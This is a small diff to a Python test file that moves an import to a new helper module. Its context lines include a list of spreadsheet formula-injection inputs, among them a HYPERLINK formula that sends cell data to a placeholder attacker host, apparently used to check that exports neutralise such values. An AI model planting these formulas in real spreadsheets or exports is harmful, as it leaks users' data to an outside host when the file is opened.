@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 from sqlalchemy import select
 
-from tests.api.test_authz_matrix import COMMITTEE, build_world
+from tests.api.authz_world import COMMITTEE, build_world
 from tests.integration.pages_helpers import login
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\r=CR"]
